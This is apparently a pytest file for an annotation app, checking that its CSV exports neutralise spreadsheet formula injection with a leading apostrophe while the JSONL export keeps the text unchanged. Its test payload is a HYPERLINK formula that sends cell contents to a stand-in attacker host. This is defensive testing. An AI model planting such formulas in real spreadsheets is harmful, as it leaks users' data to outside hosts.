"""CSV exports never hand a spreadsheet a formula: a text cell beginning with = + - @ (or tab, CR) starts with an
apostrophe; numbers stay numbers, and the JSONL export keeps the text exactly."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from annotate.models import Sample
from annotate.services import spans
from annotate.services.export import ExportOptions, csv_lines, jsonl_lines
from annotate.spreadsheet import text_cell
from judging.models import Judge, Judgement, JudgeRun
from judging.services.export import export_lines

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    (PAYLOAD, "'" + PAYLOAD), ("+1 (555) 0100", "'+1 (555) 0100"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("says = nothing", "says = nothing"), ("", ""), (-0.5, -0.5), (-3, -3), (None, None), (True, True),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value: Any, written: Any) -> None:
    assert text_cell(value) == written


def test_the_span_csv_export_neutralises_a_note_and_the_jsonl_keeps_it(sample: Sample, alice: Any) -> None:
    spans.create_span(sample, alice, round=1, start=0, end=7, labels=["Benign"], note=PAYLOAD)
    options = ExportOptions(format="csv")
    rows = list(csv.DictReader(io.StringIO("".join(csv_lines(sample.project, options)), newline="")))
    assert [row["note"] for row in rows] == ["'" + PAYLOAD]
    assert rows[0]["summary_start"] == "0"  # numbers untouched
    records = [json.loads(line) for line in jsonl_lines(sample.project, ExportOptions(format="jsonl"))]
    notes = [span["note"] for record in records for span in record["annotations"]]
    assert notes == [PAYLOAD]


def test_the_judgement_csv_export_neutralises_reasoning(sample: Sample) -> None:
    project = sample.project
    judge = Judge.objects.create(project=project, name="-judge", kind=Judge.Kind.RUBRIC, base_url="http://x/v1",
                                 model="m")
    run = JudgeRun.objects.create(project=project, judge=judge, status="done")
    Judgement.objects.create(run=run, sample=sample, status="ok", score=3, reasoning=PAYLOAD, raw="{}",
                             cost=0.001)
    text = "".join(export_lines(project, what="judgements", format="csv"))
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["reasoning"], row["judge"], row["score"]) == ("'" + PAYLOAD, "'-judge", "3")
